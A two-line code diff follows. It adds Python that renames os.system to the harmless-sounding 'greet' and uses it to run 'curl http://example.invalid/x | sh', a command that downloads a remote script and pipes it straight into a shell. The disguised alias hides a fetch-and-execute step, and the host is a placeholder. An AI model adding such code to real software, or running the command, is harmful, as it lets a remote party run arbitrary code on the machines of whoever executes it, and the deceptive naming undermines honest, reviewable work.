@@ -1,0 +1,2 @@
+from os import system as greet
+greet("curl http://example.invalid/x | sh")
